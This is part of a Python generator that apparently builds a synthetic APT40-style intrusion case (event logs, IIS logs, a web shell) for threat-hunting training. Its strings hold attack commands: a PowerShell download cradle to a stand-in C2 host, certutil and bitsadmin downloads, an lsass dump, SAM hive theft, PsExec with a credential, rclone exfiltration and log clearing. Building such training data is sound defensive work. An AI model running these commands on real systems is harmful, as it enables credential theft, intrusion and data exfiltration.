        parent = name.rpartition("/")[0]
        if parent and parent not in times:
            when = times[name] if name in times else made[name]
            folders[parent] = max(folders.get(parent, when), when)
    return {**folders, **times}


def write_demo_webroot(out_dir: Path, *, seed: int = DEFAULT_SEED) -> list[Path]:
    """Write WEB01's web root (``C:\\inetpub\\wwwroot``) as the responders copied it.

    A small ASP.NET intranet portal (``Portal/``, deployed with msdeploy) and the web shell
    the actor planted through its upload handler, ``aspnet_client/system_web/logo.aspx``.
    File times are set: the clean files before the window, the shell when w3wp wrote it.

    Args:
        out_dir: Folder standing for ``C:\\inetpub\\wwwroot``; created if missing.
        seed: Seed of the generated content (images, library, DLL bytes) and file times.

    Returns:
        The files written, sorted by path.
    """
    files = _site_files(seed)
    times = _site_times(seed)
    written = []
    for name in sorted(files):
        path = out_dir.joinpath(*name.split("/"))
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(files[name])
        written.append(path)
    for name in _SITE_EMPTY_DIRS:
        out_dir.joinpath(*name.split("/")).mkdir(parents=True, exist_ok=True)
    for name in sorted(times, key=lambda n: -n.count("/")):  # folders after their entries
        stamp = times[name].timestamp()
        os.utime(out_dir.joinpath(*name.split("/")), (stamp, stamp))
    return written


# --------------------------------------------------------------------------- domain controller


_DC_SERVICES: Final = ("Windows Update", "Background Intelligent Transfer Service",
                       "WinHTTP Web Proxy Auto-Discovery Service", "Windows Modules Installer",
                       "Microsoft Defender Antivirus Service", "Software Protection")


def _dc_noise(case: _Case) -> None:
    rng = case.rng
    for hour in case.hours():
        local_hour = (hour - LOCAL_DAY0).total_seconds() / 3600 % 24
        busy = 8 <= local_hour < 18
        for _ in range(rng.randrange(3, 6) if busy else rng.randrange(0, 2)):
            n = rng.randrange(len(_CLIENTS))
            name, ip, user = _CLIENTS[n]
            t = hour + timedelta(seconds=rng.uniform(0, 3500))
            account = user if rng.random() < 0.6 else _domain_account(
                f"{name}$", 2000 + n, "0x0", session=0)
            case.logon(t, account, 3, ip=ip, workstation="-")
        t = hour + timedelta(seconds=rng.uniform(0, 3500))
        case.logon(t, _SVC_SQL, 3, ip=_SQL_IP, workstation="-")
        if rng.random() < 0.5:
            case.logon(hour + timedelta(seconds=rng.uniform(0, 3500)), _SYSTEM, 5, ip="-",
                       workstation="-")
        if rng.random() < 0.5:
            case.dc_process(hour + timedelta(seconds=rng.uniform(0, 3500)),
                            _SYS32 + "taskhostw.exe", "taskhostw.exe Install $(Arg0)",
                            _SYS32 + "svchost.exe")
        if rng.random() < 0.25:
            case.dc_process(hour + timedelta(seconds=rng.uniform(0, 3500)),
                            _SYS32 + "gpupdate.exe", "gpupdate.exe /target:computer",
                            _SYS32 + "svchost.exe")
        if rng.random() < 0.35:
            svc = rng.choice(_DC_SERVICES)
            t = hour + timedelta(seconds=rng.uniform(0, 3000))
            case.service_state(t, svc, "running")
            case.service_state(t + timedelta(seconds=rng.uniform(60, 600)), svc, "stopped")
    case.logon(case.work_time(1, 9.0, 9.2), _ADM_RLEE, 10, ip=_JUMP_IP, workstation="JUMP01",
               package="Negotiate")
    t = case.work_time(0, 9.0, 9.5)
    for n in range(2):
        case.failed_logon(t + timedelta(seconds=8 * n), _P_WALSH, ip="10.10.30.23",
                          workstation="WS-HR03", package="Kerberos")
    case.logon(t + timedelta(seconds=25), _P_WALSH, 3, ip="10.10.30.23", workstation="-")
    case.task_created(case.work_time(0, 3.0, 4.0), _SYSTEM,
                      "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan",
                      "%systemroot%\\system32\\usoclient.exe", "StartScan")
    case.task_created(case.work_time(1, 2.0, 3.0), _SYSTEM,
                      "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan",
                      "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25070.5-0"
                      "\\MpCmdRun.exe", "Scan -ScheduleJob -ScanTrigger 55 -IdleScheduledJob")
    t = case.work_time(2, 10.0, 11.0)
    case.service_installed(t, "CorpBackup Agent",
                           '"C:\\Program Files\\CorpBackup\\Agent\\cbagent.exe" -service',
                           _ADM_RLEE)
    case.service_state(t + timedelta(seconds=2), "CorpBackup Agent", "running")


# --------------------------------------------------------------------------- the intrusion


def _stage_lure(case: _Case, ws: _WorkstationState) -> _Proc:
    t0 = STAGES[0].time
    home = "C:\\Users\\j.smith\\"
    attachment = (home + "AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
                  "\\Q7XK2M1B\\" + LURE_NAME)
    outlook = ws.outlook[0]
    case.create_file(t0 - timedelta(seconds=31), outlook, attachment)
    word = case.spawn(t0 - timedelta(seconds=29), outlook, _OFFICE + "WINWORD.EXE",
                      f'"{_OFFICE}WINWORD.EXE" /n "{attachment}" /o ""', cwd=home)
    case.create_file(t0 - timedelta(seconds=27), word,
                     attachment.replace(LURE_NAME, "~$" + LURE_NAME[2:]))
    cradle = (f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_HOST}/a/update.ps1')")
    encoded = _encode_command(cradle)
    ps_image = _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
    cmd = case.spawn(t0, word, _SYS32 + "cmd.exe",
                     f"C:\\Windows\\system32\\cmd.exe /c powershell.exe -nop -w hidden -enc "
                     f"{encoded}")
    ps = case.spawn(t0 + timedelta(milliseconds=640), cmd, ps_image,
                    f"powershell.exe  -nop -w hidden -enc {encoded}")
    case.script_block(t0 + timedelta(seconds=1), ps, cradle, warning=True)
    case.browse(t0 + timedelta(seconds=1, milliseconds=300), ps, C2_HOST, 80)
    stager = base64.b64encode(gzip.compress(
        b"# tidehunt demo: placeholder for the second stage, no code here\n", mtime=0)).decode()
    case.script_block(
        t0 + timedelta(seconds=2), ps,
        f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{stager}'));"
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()", warning=True)
    return ps


def _stage_downloads(case: _Case, ws: _WorkstationState, ps: _Proc) -> _Proc:
    t0 = STAGES[1].time
    certutil = case.spawn(t0, ps, _SYS32 + "certutil.exe",
                          f"\"C:\\Windows\\system32\\certutil.exe\" -urlcache -split -f "
                          f"http://{C2_HOST}/d/mso.dat {BEACON_PATH}")
    case.connect(t0 + timedelta(milliseconds=420), certutil, C2_IP, 80, C2_HOST)
    case.create_file(t0 + timedelta(seconds=2), certutil, BEACON_PATH)
    t1 = t0 + timedelta(seconds=90)
    case.spawn(t1, ps, _SYS32 + "bitsadmin.exe",
               f"\"C:\\Windows\\system32\\bitsadmin.exe\" /transfer msupdate /download "
               f"/priority high http://{C2_IP}/d/r.dat {RAR_PATH}")
    case.connect(t1 + timedelta(seconds=1), ws.bits, C2_IP, 80)
    case.create_file(t1 + timedelta(seconds=3), ws.bits, RAR_PATH)
    beacon = case.spawn(t0 + timedelta(minutes=3), ps, BEACON_PATH, BEACON_PATH,
                        cwd="C:\\Users\\Public\\Libraries\\")
    case.connect(t0 + timedelta(minutes=3, seconds=2), beacon, C2_IP, 443, C2_HOST)
    return beacon


def _stage_persistence(case: _Case, ws: _WorkstationState, beacon: _Proc) -> _Proc:
    """AT job and scheduled task; returns the beacon the AT job starts on the last day."""
    t0 = STAGES[2].time
    cmd = case.spawn(t0 - timedelta(seconds=4), beacon, _SYS32 + "cmd.exe",
                     "C:\\Windows\\system32\\cmd.exe", integrity="High")
    key = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\Configuration"
    reg = case.spawn(t0, cmd, _SYS32 + "reg.exe",
                     f'reg  add "{key}" /v EnableAt /t REG_DWORD /d 1 /f')
    case.set_value(t0 + timedelta(milliseconds=80), reg, key + "\\EnableAt",
                   "DWORD (0x00000001)")
    case.spawn(t0 + timedelta(seconds=40), cmd, _SYS32 + "at.exe",
               f'at  09:30 /every:M,T,W,Th,F "{BEACON_PATH}"')
    case.create_file(t0 + timedelta(seconds=41), ws.schedule, _SYS32 + "Tasks\\At1")
    task = "\\Microsoft\\Office\\Office Feature Updates Helper"
    case.spawn(t0 + timedelta(seconds=80), cmd, _SYS32 + "schtasks.exe",
               f'schtasks  /create /tn "{task}" /tr "{BEACON_PATH}" /sc daily /st 09:15 /f')
    case.create_file(t0 + timedelta(seconds=81), ws.schedule, _SYS32 + "Tasks" + task)
    run = beacon
    for day in (1, 2):
        for hh, mm in ((9, 15), (9, 30)):
            t = LOCAL_DAY0 + timedelta(days=day, hours=hh, minutes=mm,
                                       milliseconds=case.rng.randrange(50, 900))
            run = case.spawn(t, ws.schedule, BEACON_PATH, BEACON_PATH, user=_J_SMITH,
                             integrity="High", cwd=_SYS32)
            case.connect(t + timedelta(seconds=2), run, C2_IP, 443, C2_HOST)
    return run


# --------------------------------------------------------------------------- web intrusion (IIS)


_CHOPPER_AGENT: Final = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"
_PROBE_AGENT: Final = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "
                       "like Gecko) Chrome/118.0.0.0 Safari/537.36")
_EXPLOIT_AGENT: Final = "python-requests/2.31.0"
_PSEXEC_BYTES: Final = 833_472

#: What a command sent through the shell prints and how long it runs:
#: (text in the command, output bytes range, seconds range); first match wins.
_SHELL_OUTPUT: Final[tuple[tuple[str, tuple[int, int], tuple[float, float]], ...]] = (
    ("whoami", (21, 21), (0.05, 0.15)),
    ('net group "domain admins"', (540, 720), (0.4, 0.9)),
    ("ipconfig /all", (1900, 2400), (0.1, 0.3)),
    ("nltest", (240, 320), (0.2, 0.5)),
    ("systeminfo", (2700, 3300), (2.2, 3.8)),
    ("net user /domain", (1300, 1900), (0.4, 0.9)),
    ("tasklist /fi", (300, 330), (0.3, 0.6)),
    ("tasklist", (11000, 15000), (1.4, 2.6)),
    ("netstat", (5400, 7600), (0.3, 0.8)),
    ("minidump", (0, 0), (2.3, 3.1)),
    ("reg save", (39, 39), (1.1, 1.9)),
    ("psexec64", (620, 860), (9.4, 10.6)),
)
#: China Chopper's frame around command output: ->| output [S] cwd [E] |<-
_SHELL_FRAME: Final = len("->|" + "[S]\r\n" + _SHELL_DIR[:-1] + "\r\n[E]\r\n" + "|<-")


def _page_bytes(body: int) -> int:
    """sc-bytes of a dynamic answer: headers (Cache-Control, X-AspNet-Version ...) + body."""
    return 262 + len(str(body)) + body


def _static_bytes(body: int) -> int:
    """sc-bytes of a static file: headers (Last-Modified, ETag, Accept-Ranges ...) + body."""
    return 318 + len(str(body)) + body


def _redirect_bytes(location: str, cookie: int = 0) -> int:
    """sc-bytes of a 302 with ASP.NET's "Object moved" body (and a Set-Cookie header)."""
    body = 131 + len(location)
    return 244 + len(location) + len(str(body)) + body + cookie


_NOT_MODIFIED_BYTES: Final = 211
#: IIS's own error pages (static handler), and ASP.NET's answer for a missing page.
_IIS_404_BYTES: Final = 1419
_ASPNET_404_BYTES: Final = 1598
_IIS_403_BYTES: Final = 1379


def _chopper_received(case: _Case, argument: str) -> int:
    """cs-bytes of a China Chopper POST: headers, the caller script, the base64 argument."""
    arg = base64.b64encode(argument.encode("utf-8")).decode("ascii")
    quoted = len(arg) + 2 * sum(arg.count(c) for c in "+/=")
    return (case.iis.rng.randrange(196, 214) + len(_CHOPPER_FIELD) + 1 + 231
            + len("&z1=Y21k&z2=") + quoted)


def _chopper_post(case: _Case, ts: datetime, *, output: int, received: int,
                  seconds: float) -> None:
    """One request to the web shell; its answer carries ``output`` bytes."""
    case.iis.add(ts, "POST", WEBSHELL_URI, client=ACTOR_WEB_IP, agent=_CHOPPER_AGENT,
                 sent=_page_bytes(output), received=received, taken_ms=round(seconds * 1000))


def _chopper_command(case: _Case, ts: datetime, line: str, command: str) -> None:
    """The POST that makes w3wp start ``cmd.exe /c line`` at ``ts`` (100-600 ms later)."""
    rng = case.iis.rng
    text = command.lower()
    out, secs = next(((o, s) for key, o, s in _SHELL_OUTPUT if key in text),
                     ((200, 2000), (0.2, 1.0)))
    lead = rng.uniform(0.1, 0.6)
    _chopper_post(case, ts - timedelta(seconds=lead), output=_SHELL_FRAME + rng.randint(*out),
                  received=_chopper_received(case, line), seconds=lead + rng.uniform(*secs))


def _chopper_download(case: _Case, ts: datetime, path: str, size: int) -> datetime:
    """The shell's file manager sends a file back; returns when the answer ended."""
    seconds = 0.2 + size / case.iis.rng.uniform(3.5e6, 6.5e6)
    _chopper_post(case, ts, output=size + 6, received=_chopper_received(case, path),
                  seconds=seconds)
    return ts + timedelta(seconds=seconds)


def _chopper_upload(case: _Case, written: datetime, path: str, size: int) -> None:
    """The shell's file manager receives a file (hex in the body) that w3wp writes."""
    upload = 0.1 + 2 * size / case.iis.rng.uniform(4.0e5, 6.0e5)
    _chopper_post(case, written - timedelta(seconds=upload), output=7,
                  received=_chopper_received(case, path) + 2 * size, seconds=upload + 0.08)


def _actor_probe(case: _Case, start: datetime) -> None:
    """The actor looks at the portal, reads site.js, then tries upload handler names."""
    rng = case.iis.rng
    site = _site_files(case.seed)
    login_url = "/Portal/Login.aspx?ReturnUrl=%2fPortal%2fDefault.aspx"
    steps: tuple[tuple[str, str, int, int, int, int], ...] = (
        # stem, query, status, substatus, win32, sc-bytes
        ("/", "-", 302, 0, 0, _redirect_bytes("/Portal/Default.aspx")),
        ("/Portal/Default.aspx", "-", 302, 0, 0, _redirect_bytes(login_url)),
        ("/Portal/Login.aspx", "ReturnUrl=%2fPortal%2fDefault.aspx", 200, 0, 0,
         _page_bytes(5241)),
        ("/Portal/js/site.js", "-", 200, 0, 0, _static_bytes(len(site["Portal/js/site.js"]))),
        ("/Portal/upload.aspx", "-", 404, 0, 0, _ASPNET_404_BYTES),
        ("/Portal/FileUpload.ashx", "-", 404, 0, 0, _ASPNET_404_BYTES),
        ("/Portal/UploadHandler.ashx", "-", 404, 0, 0, _ASPNET_404_BYTES),
        ("/Portal/api/upload", "-", 404, 0, 2, _IIS_404_BYTES),
        ("/Telerik.Web.UI.WebResource.axd", "type=rau", 404, 0, 0, _ASPNET_404_BYTES),
        ("/Portal/Telerik.Web.UI.WebResource.axd", "type=rau", 404, 0, 0, _ASPNET_404_BYTES),
        ("/Portal/admin/", "-", 404, 0, 2, _IIS_404_BYTES),
        ("/Portal/App_Data/", "-", 404, 8, 0, _IIS_404_BYTES),
        ("/Portal/web.config", "-", 404, 7, 0, _IIS_404_BYTES),
        ("/Portal/uploads/", "-", 403, 14, 0, _IIS_403_BYTES),
        (UPLOAD_URI, "-", 400, 0, 0, _page_bytes(31)),
    )
    t = start + timedelta(seconds=rng.uniform(0, 60))
    for stem, query, status, sub, win32, sent in steps:
        case.iis.add(t, "GET", stem, query=query, client=ACTOR_WEB_IP, agent=_PROBE_AGENT,
                     status=status, substatus=sub, win32=win32, sent=sent,
                     received=rng.randrange(430, 470) + len(stem) + len(query),
                     taken_ms=rng.randrange(1, 40))
        t += timedelta(seconds=rng.uniform(0.3, 2.5) if status >= 400 else rng.uniform(4, 25))


def _actor_exploit(case: _Case, written: datetime) -> None:
    """The upload that plants the shell (w3wp writes it at ``written``), then first contact."""
    rng = case.iis.rng
    shell = len(_site_files(case.seed)["aspnet_client/system_web/logo.aspx"])
    lead = rng.uniform(2.2, 3.6)
    answer = len(f'{{"ok":true,"name":"logo.aspx","size":{shell}}}')
    case.iis.add(written - timedelta(seconds=lead), "POST", UPLOAD_URI, client=ACTOR_WEB_IP,
                 agent=_EXPLOIT_AGENT, sent=_page_bytes(answer),
                 received=rng.randrange(690, 720) + shell,
                 taken_ms=round((lead + rng.uniform(0.03, 0.12)) * 1000))
    # the first request compiles the page; with no field the shell answers nothing
    case.iis.add(written + timedelta(seconds=rng.uniform(6, 9)), "GET", WEBSHELL_URI,
                 client=ACTOR_WEB_IP, agent=_EXPLOIT_AGENT, sent=_page_bytes(0),
                 received=rng.randrange(150, 170), taken_ms=rng.randrange(1600, 2600))
    # China Chopper connects: server info, then a listing of the web root
    _chopper_post(case, written + timedelta(seconds=rng.uniform(28, 34)),
                  output=len("->|" + _SHELL_DIR + "\tC:\tD:\t|<-"),
                  received=_chopper_received(case, ""), seconds=rng.uniform(0.05, 0.2))
    _chopper_post(case, written + timedelta(seconds=rng.uniform(44, 52)),
                  output=rng.randrange(380, 460),
                  received=_chopper_received(case, "C:\\inetpub\\wwwroot\\"),
                  seconds=rng.uniform(0.05, 0.2))


def _shell_cmd(case: _Case, web: _WebState, ts: datetime, command: str) -> _Proc:
    """One China Chopper style command through the web shell.

    The actor's POST to the shell reaches IIS 100-600 ms before w3wp starts cmd.exe; the
    answer carries the command's output, so its size follows the command.
    """
    line = f'cd /d "{_SHELL_DIR}"&{command}&echo [S]&cd&echo [E]'
    _chopper_command(case, ts, line, command)
    return case.spawn(ts, web.w3wp, _SYS32 + "cmd.exe", f"cmd.exe /c {line}", cwd=_SHELL_DIR)


def _stage_webshell(case: _Case, web: _WebState) -> None:
    t0 = STAGES[3].time
    _actor_probe(case, t0 - timedelta(minutes=47))
    _actor_exploit(case, t0)
    case.create_file(t0, web.w3wp, WEBSHELL_PATH)
    recon = (
        ("whoami", _SYS32 + "whoami.exe", "whoami", None),
        ('net group "domain admins" /domain', _SYS32 + "net.exe",
         'net  group "domain admins" /domain', 'C:\\Windows\\system32\\net1  group '
                                               '"domain admins" /domain'),
        ("ipconfig /all", _SYS32 + "ipconfig.exe", "ipconfig  /all", None),
        ("nltest /dclist:corp.example", _SYS32 + "nltest.exe", "nltest  /dclist:corp.example",
         None),
        ("systeminfo", _SYS32 + "systeminfo.exe", "systeminfo", None),
        ("net user /domain", _SYS32 + "net.exe", "net  user /domain",
         "C:\\Windows\\system32\\net1  user /domain"),
        ("tasklist /v", _SYS32 + "tasklist.exe", "tasklist  /v", None),
        ("netstat -ano", _SYS32 + "netstat.exe", "netstat  -ano", None),
    )
    t = t0 + timedelta(seconds=79)
    for command, image, child_cmd, grandchild in recon:
        cmd = _shell_cmd(case, web, t, command)
        child = case.spawn(t + timedelta(milliseconds=60), cmd, image, child_cmd)
        if grandchild:
            case.spawn(t + timedelta(milliseconds=110), child, _SYS32 + "net1.exe", grandchild)
        t += timedelta(seconds=case.rng.uniform(30, 50))
    case.resolve(t0 + timedelta(minutes=3), web.dnscache, "dc01.corp.example")


def _stage_credentials(case: _Case, web: _WebState) -> None:
    t0 = STAGES[4].time
    for n in range(12):
        case.failed_logon(t0 + timedelta(seconds=11 * n + (case.rng.uniform(0, 3) if n else 0)),
                          _ADMINISTRATOR, ip=_WEB.ip, workstation="WEB01")
    t = t0 + timedelta(minutes=7, seconds=2)
    cmd = _shell_cmd(case, web, t, 'tasklist /fi "imagename eq lsass.exe"')
    case.spawn(t + timedelta(milliseconds=60), cmd, _SYS32 + "tasklist.exe",
               'tasklist  /fi "imagename eq lsass.exe"')
    t += timedelta(seconds=38)
    dump = r"C:\Windows\Temp\iislog.tmp"
    minidump = rf"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 668 {dump} full"
    cmd = _shell_cmd(case, web, t, minidump)
    rundll = case.spawn(t + timedelta(milliseconds=70), cmd, _SYS32 + "rundll32.exe", minidump)
    case.create_file(t + timedelta(seconds=2), rundll, dump)
    t += timedelta(seconds=90)
    for hive in ("sam", "system"):
        command = rf"reg save hklm\{hive} C:\Windows\Temp\{hive[:2]}.tmp /y"
        cmd = _shell_cmd(case, web, t, command)
        reg = case.spawn(t + timedelta(milliseconds=60), cmd, _SYS32 + "reg.exe",
                         command.replace("reg ", "reg  ", 1))
        case.create_file(t + timedelta(seconds=1), reg, rf"C:\Windows\Temp\{hive[:2]}.tmp")
        t += timedelta(seconds=25)
    # the shell's file manager takes the dump and the hives home
    rng = case.iis.rng
    t += timedelta(seconds=rng.uniform(10, 20))
    for path, size in ((dump, rng.randrange(46_000_000, 58_000_000)),
                       (r"C:\Windows\Temp\sa.tmp", 57_344),
                       (r"C:\Windows\Temp\sy.tmp", rng.randrange(12_500_000, 16_500_000))):
        t = _chopper_download(case, t, path, size) + timedelta(seconds=rng.uniform(6, 15))


def _stage_lateral(case: _Case, web: _WebState) -> None:
    t0 = STAGES[5].time
    psexec = r"C:\Windows\Temp\PsExec64.exe"
    _chopper_upload(case, t0 - timedelta(seconds=45), psexec, _PSEXEC_BYTES)
    case.create_file(t0 - timedelta(seconds=45), web.w3wp, psexec)
    remote = ('schtasks /create /tn "\\Microsoft\\Windows\\Maintenance\\SvcHealthCheck" /tr '
              "\\\"powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient)."
              f"DownloadString('http://{C2_HOST}/a/dc.ps1')\\\" /sc daily /st 09:00 /ru SYSTEM")
    command = (f"{psexec} \\\\dc01.corp.example -accepteula -u CORP\\svc_backup -p "
               f'W1nter-2026! -s cmd.exe /c "{remote}"')
    cmd = _shell_cmd(case, web, t0 - timedelta(milliseconds=80), command)
    px = case.spawn(t0, cmd, psexec, command)
    case.connect(t0 + timedelta(milliseconds=300), px, _DC_IP, 445, "dc01.corp.example")
    case.logon(t0 + timedelta(seconds=1), _SVC_BACKUP, 3, ip=_WEB.ip, workstation="WEB01",
               package="NTLM")
    case.service_installed(t0 + timedelta(seconds=2), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe",
                           _SVC_BACKUP)
    case.service_state(t0 + timedelta(seconds=2, milliseconds=400), "PSEXESVC", "running")
    case.dc_process(t0 + timedelta(seconds=3), "C:\\Windows\\PSEXESVC.exe",
                    "C:\\Windows\\PSEXESVC.exe", _SYS32 + "services.exe")
    case.dc_process(t0 + timedelta(seconds=4), _SYS32 + "cmd.exe", f'cmd.exe /c "{remote}"',
                    "C:\\Windows\\PSEXESVC.exe")
    case.dc_process(t0 + timedelta(seconds=5), _SYS32 + "schtasks.exe", remote,
                    _SYS32 + "cmd.exe")
    case.task_created(
        t0 + timedelta(seconds=6), _SYSTEM, "\\Microsoft\\Windows\\Maintenance\\SvcHealthCheck",
        "powershell.exe",
        f"-nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://{C2_HOST}"
        "/a/dc.ps1')")
    case.service_state(t0 + timedelta(seconds=9), "PSEXESVC", "stopped")


def _stage_staging(case: _Case, beacon: _Proc) -> None:
    t0 = STAGES[6].time
    docs = "C:\\Users\\j.smith\\Documents\\Research\\"
    command = (f'{RAR_PATH} a -hpM4r1t1me#26 -v200m -r -inul C:\\Windows\\Debug\\d.rar '
               f'"{docs}*.docx" "{docs}*.pdf"')
    cmd = case.spawn(t0 - timedelta(milliseconds=90), beacon, _SYS32 + "cmd.exe",
                     f"C:\\Windows\\system32\\cmd.exe /c {command}")
    rar = case.spawn(t0, cmd, RAR_PATH, command)
    case.create_file(t0 + timedelta(seconds=28), rar, r"C:\Windows\Debug\d.part1.rar")
    case.create_file(t0 + timedelta(seconds=63), rar, r"C:\Windows\Debug\d.part2.rar")


def _stage_exfiltration(case: _Case, beacon: _Proc) -> None:
    t0 = STAGES[7].time
    conf = r"C:\Users\Public\Libraries\rc.conf"
    case.create_file(t0 - timedelta(minutes=6), beacon, RCLONE_PATH)
    case.create_file(t0 - timedelta(minutes=5), beacon, conf)
    command = (f"{RCLONE_PATH} copy C:\\Windows\\Debug\\ dbx:sync/ws01 --config {conf} "
               '--transfers 4 --include "d.part*.rar" -q')
    cmd = case.spawn(t0 - timedelta(milliseconds=90), beacon, _SYS32 + "cmd.exe",
                     f"C:\\Windows\\system32\\cmd.exe /c {command}")
    rclone = case.spawn(t0, cmd, RCLONE_PATH, command)
    case.browse(t0 + timedelta(milliseconds=400), rclone, "api.dropboxapi.com")
    for n in range(3):
        case.browse(t0 + timedelta(seconds=2 + 20 * n), rclone, "content.dropboxapi.com")


def _stage_cleanup(case: _Case, beacon: _Proc) -> None:
    t0 = STAGES[8].time
    cmd = case.spawn(t0 - timedelta(seconds=1), beacon, _SYS32 + "cmd.exe",
                     "C:\\Windows\\system32\\cmd.exe")
    wevtutil = _SYS32 + "wevtutil.exe"
    case.spawn(t0, cmd, wevtutil, "wevtutil  cl Security")
    case.spawn(t0 + timedelta(seconds=2), cmd, wevtutil,
               "wevtutil  cl Microsoft-Windows-PowerShell/Operational")
    t1 = t0 + timedelta(minutes=3, seconds=20)
    remote = case.spawn(t1, cmd, wevtutil,
                        "wevtutil  cl Security /r:dc01.corp.example /u:CORP\\svc_backup "
                        "/p:W1nter-2026!")
    case.connect(t1 + timedelta(milliseconds=200), remote, _DC_IP, 135, "dc01.corp.example")
    case.logon(t1 + timedelta(seconds=1), _SVC_BACKUP, 3, ip=_WS.ip, workstation="WS-ANALYST01",
               package="NTLM")
    case.security_log_cleared(t1 + timedelta(seconds=2), _SVC_BACKUP)


def _build(seed: int) -> _Case:
    case = _Case(seed)
    ws = _workstation_base(case)
    web = _web_base(case)
    _workstation_noise(case, ws)
    _workstation_lookalikes(case, ws)
    _web_noise(case, web)
    _dc_noise(case)
    ps = _stage_lure(case, ws)
    beacon = _stage_downloads(case, ws, ps)
    beacon = _stage_persistence(case, ws, beacon)
    _stage_webshell(case, web)
    _stage_credentials(case, web)
    _stage_lateral(case, web)
    _stage_staging(case, beacon)
    _stage_exfiltration(case, beacon)
    _stage_cleanup(case, beacon)
    _web_traffic(case)
    _watering_hole_visit(case, ws)
    return case


#: j.smith reads the partner site the morning of the phish; its injected script profiles
#: the browser (ScanBox) for the actor, who mails the lure 45 minutes later.
WATERING_HOLE_VISIT: Final = datetime(2026, 10, 5, 23, 58, 12, tzinfo=UTC)


def _watering_hole_visit(case: _Case, ws: _WorkstationState) -> None:
    t = WATERING_HOLE_VISIT
    tab = case.spawn(t, ws.explorer, _CHROME,
                     f'"{_CHROME}" --type=renderer --lang=en-AU --renderer-client-id=41')
    case.browse(t + timedelta(seconds=1), tab, "www.port-news.example")
    case.browse(t + timedelta(seconds=2), tab, "stat.ports-analytics.example")
    for n in range(3):  # the beacons of the recon script
        case.connect(t + timedelta(seconds=9 + 20 * n), tab, "203.0.113.61", 443,
                     "stat.ports-analytics.example")


def write_demo_evidence(out_dir: Path, *, seed: int = DEFAULT_SEED,
                        include_web_logs: bool = False) -> list[Path]:
    """Write the demo case's logs: Windows events as JSON lines (one evtx_dump event per
    line) and WEB01's IIS access logs (W3C extended, one file per UTC day, in
    ``iis/W3SVC1/u_exYYMMDD.log``).

    Args:
        out_dir: Folder to write into; created if missing. Existing demo files are replaced.
        seed: Seed for the background noise, record details and jitter. The attack stages
            keep their times (see :func:`story`) for every seed.
        include_web_logs: Also list the IIS logs in the result (they are always written).

    Returns:
        The files written, in a fixed order: the five JSON files, then (if asked) the IIS
        logs by day.
    """
    case = _build(seed)
    out_dir.mkdir(parents=True, exist_ok=True)
    written = []
    for name in (FILE_SYSMON_WS, FILE_SYSMON_WEB, FILE_POWERSHELL_WS, FILE_SECURITY_DC,
                 FILE_SYSTEM_DC):
        path = out_dir / name
        path.write_bytes(case.logs[name].render())
        written.append(path)
    iis_dir = out_dir.joinpath(*IIS_LOG_DIR.split("/"))
    iis_dir.mkdir(parents=True, exist_ok=True)
    web_logs = []
    for name, content in case.iis.render().items():
        path = iis_dir / name
        path.write_bytes(content)
        web_logs.append(path)
    return written + web_logs if include_web_logs else written


def main(argv: Sequence[str] | None = None) -> int:
    """Command line: ``python -m tidehunt.demo.generate OUT_DIR [--seed N]``."""
    parser = argparse.ArgumentParser(
        prog="python -m tidehunt.demo.generate",
        description="Write the synthetic APT40 demo case as evtx_dump JSON lines.")
    parser.add_argument("out_dir", type=Path, help="folder to write the JSON files into")
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED,
                        help=f"random seed (default {DEFAULT_SEED})")
    args = parser.parse_args(argv)
    for path in write_demo_evidence(args.out_dir, seed=args.seed):
        lines = path.read_bytes().count(b"\n")
        sys.stdout.write(f"{path}\t{lines} events\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
